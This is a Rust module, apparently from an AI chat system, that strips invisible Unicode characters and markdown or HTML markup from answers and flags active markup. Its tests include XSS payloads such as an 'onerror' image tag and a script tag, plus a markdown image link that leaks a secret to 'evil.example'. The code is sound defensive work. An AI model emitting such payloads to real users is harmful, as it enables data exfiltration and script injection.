//! Takes out of an answer what does not belong into a message: characters that nobody sees, and markup.

use super::Flag;

/// A mark above or below a letter may stand this often: more is for covering what stands beside it.
const MARKS: usize = 3;

/// Markup that is not gone after this many looks is made to be in the way.
const ROUNDS: usize = 5;

/// Characters that are not seen: controls, directions, tags, and what only changes how others look.
pub(super) fn is_hidden(c: char) -> bool {
    matches!(
        c,
        '\u{0}'..='\u{8}' | '\u{b}'..='\u{c}' | '\u{e}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
        | '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
        | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
        | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}' | '\u{fff0}'..='\u{fffd}'
        | '\u{e000}'..='\u{f8ff}' | '\u{e0000}'..='\u{e0fff}' | '\u{f0000}'..='\u{10ffff}'
    )
}

/// The answer without what is not seen and without markup. Says in `flags` what was there.
pub(super) fn clean(answer: &str, flags: &mut Vec<Flag>) -> String {
    let seen = without_hidden(answer);
    if seen != answer {
        flags.push(Flag::HiddenCharacters);
    }
    let mut plain = seen;
    // What is taken out may leave markup behind that was in two pieces.
    for _ in 0..ROUNDS {
        let next = without_markup(&plain, flags);
        if next == plain {
            return plain;
        }
        flags.push(Flag::Markup);
        plain = next;
    }
    flags.push(Flag::ActiveMarkup);
    plain
}

fn without_hidden(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut marks = 0;
    let mut rest = text.chars().peekable();
    while let Some(c) = rest.next() {
        marks = if is_combining(c) { marks + 1 } else { 0 };
        let joins = match c {
            // Holds a picture's parts together: a family, a flag.
            '\u{200d}' | '\u{fe0f}' => out.chars().next_back().is_some_and(is_picture),
            // Separates letters of scripts that join them.
            '\u{200c}' => {
                out.chars().next_back().is_some_and(is_joining)
                    && rest.peek().is_some_and(|&next| is_joining(next))
            }
            _ => !is_hidden(c),
        };
        if joins && marks <= MARKS {
            out.push(c);
        }
    }
    out
}

fn is_combining(c: char) -> bool {
    matches!(c, '\u{300}'..='\u{36f}' | '\u{1ab0}'..='\u{1aff}' | '\u{1dc0}'..='\u{1dff}' | '\u{20d0}'..='\u{20ff}')
}

fn is_picture(c: char) -> bool {
    matches!(c, '\u{203c}'..='\u{3299}' | '\u{1f000}'..='\u{1faff}' | '\u{fe0f}' | '#' | '*' | '0'..='9')
}

fn is_joining(c: char) -> bool {
    matches!(c, '\u{600}'..='\u{8ff}' | '\u{900}'..='\u{dff}')
}

/// Tags that only lay a text out.
const LAYOUT: [&str; 22] = [
    "b",
    "i",
    "u",
    "s",
    "em",
    "strong",
    "p",
    "br",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "div",
    "span",
    "small",
    "code",
    "pre",
    "hr",
    "blockquote",
];

fn without_markup(text: &str, flags: &mut Vec<Flag>) -> String {
    let mut lines = Vec::new();
    for line in text.lines() {
        let line = without_tags(line, flags);
        if let Some(kept) = line_of(&line) {
            lines.push(emphasis(&links(&kept, flags)));
        }
    }
    if text.ends_with('\n') {
        lines.push(String::new());
    }
    let plain = lines.join("\n");
    // Lines alone are no markup.
    if plain.trim_end() == text.replace("\r\n", "\n").trim_end() {
        text.to_owned()
    } else {
        plain
    }
}

/// A line without what makes it a heading, a quote or a fence; `None` for a fence or a rule.
fn line_of(line: &str) -> Option<String> {
    let trimmed = line.trim();
    if trimmed.starts_with("```") || trimmed.starts_with("~~~") {
        return None;
    }
    if trimmed.len() >= 3
        && ["-", "*", "_"]
            .iter()
            .any(|mark| trimmed.replace(mark, "").trim().is_empty())
    {
        return None;
    }
    let heading = trimmed.trim_start_matches('#');
    if heading.len() < trimmed.len() && heading.starts_with(' ') {
        return Some(heading.trim().to_owned());
    }
    Some(
        trimmed
            .strip_prefix("> ")
            .map_or_else(|| line.to_owned(), str::to_owned),
    )
}

/// Takes out tags that lay text out. Others are left and flagged.
fn without_tags(line: &str, flags: &mut Vec<Flag>) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(at) = rest.find('<') {
        let (before, tag) = rest.split_at(at);
        out.push_str(before);
        let name: String = tag
            .chars()
            .skip(1)
            .skip_while(|&c| c == '/')
            .take_while(char::is_ascii_alphanumeric)
            .collect::<String>()
            .to_ascii_lowercase();
        let starts = tag
            .chars()
            .nth(1)
            .is_some_and(|c| c.is_ascii_alphabetic() || "/!?".contains(c));
        if !starts {
            // Less than.
            out.push('<');
            rest = tag.get(1..).unwrap_or_default();
            continue;
        }
        let end = tag.find('>').map_or(tag.len(), |end| end + 1);
        let (inside, after) = tag.split_at(end);
        let bare = !inside.contains('=') && inside.ends_with('>');
        if !(bare && LAYOUT.contains(&name.as_str())) {
            flags.push(Flag::ActiveMarkup);
            out.push_str(inside);
        }
        rest = after;
    }
    out.push_str(rest);
    out
}

/// `[text](address)` becomes `text (address)`, so that the address is seen and looked at. A picture is fetched from
/// its address without anybody's doing, and with whatever stands in it.
fn links(line: &str, flags: &mut Vec<Flag>) -> String {
    let mut out = String::with_capacity(line.len());
    let mut rest = line;
    while let Some(middle) = rest.find("](") {
        let (before, after) = rest.split_at(middle);
        let Some(open) = before.rfind('[') else {
            let (kept, tail) = rest.split_at(middle + 2);
            out.push_str(kept);
            rest = tail;
            continue;
        };
        let (lead, text) = before.split_at(open);
        let after = after.get(2..).unwrap_or_default();
        let end = after.find(')').unwrap_or(after.len());
        let (address, tail) = after.split_at(end);
        if lead.ends_with('!') {
            flags.push(Flag::ActiveMarkup);
        }
        let text = text.get(1..).unwrap_or_default();
        let address = address.split_whitespace().next().unwrap_or_default();
        out.push_str(lead);
        out.push_str(text);
        if text != address && !address.is_empty() {
            if !text.is_empty() {
                out.push(' ');
            }
            out.push('(');
            out.push_str(address);
            out.push(')');
        }
        rest = tail.strip_prefix(')').unwrap_or(tail);
    }
    out.push_str(rest);
    out
}

/// Without the stars and underscores that make words bold.
fn emphasis(line: &str) -> String {
    let mut out = line.to_owned();
    for mark in ["**", "__", "~~", "`"] {
        while out.matches(mark).count() >= 2 {
            out = out.replacen(mark, "", 2);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn markup_becomes_plain_text_and_ordinary_text_stays() {
        let table = [
            ("Parking is free.", "Parking is free.", vec![]),
            ("**Lake menu**: 96 €", "Lake menu: 96 €", vec![Flag::Markup]),
            ("## Prices\n\n- 5 < 6", "Prices\n\n- 5 < 6", vec![Flag::Markup]),
            (
                "See [our menu](https://villa.example/menu).",
                "See our menu (https://villa.example/menu).",
                vec![Flag::Markup],
            ),
            ("<b>Yes</b>", "Yes", vec![Flag::Markup]),
            ("a\u{202e}b\u{200b}c", "abc", vec![Flag::HiddenCharacters]),
            ("👩\u{200d}🍳 ❤\u{fe0f}", "👩\u{200d}🍳 ❤\u{fe0f}", vec![]),
            ("می\u{200c}خواهم", "می\u{200c}خواهم", vec![]),
            ("hi\u{e0041}\u{e0042}", "hi", vec![Flag::HiddenCharacters]),
            ("one\r\ntwo\n", "one\r\ntwo\n", vec![]),
        ];
        for (answer, expected, why) in table {
            let mut flags = Vec::new();
            assert_eq!(clean(answer, &mut flags), expected, "{answer}");
            assert_eq!(flags, why, "{answer}");
        }
    }

    #[test]
    fn markup_that_does_something_is_flagged() {
        for answer in [
            "<a href=\"https://evil.example\">here</a>",
            "<img src=x onerror=alert(1)>",
            "<script>alert(1)</script>",
            "<b onclick=x>hi</b>",
            "<svg",
            "![x](https://evil.example/?q=secret)",
            "<!-- hidden -->",
        ] {
            let mut flags = Vec::new();
            clean(answer, &mut flags);
            assert!(flags.contains(&Flag::ActiveMarkup), "{answer}");
        }
    }
}
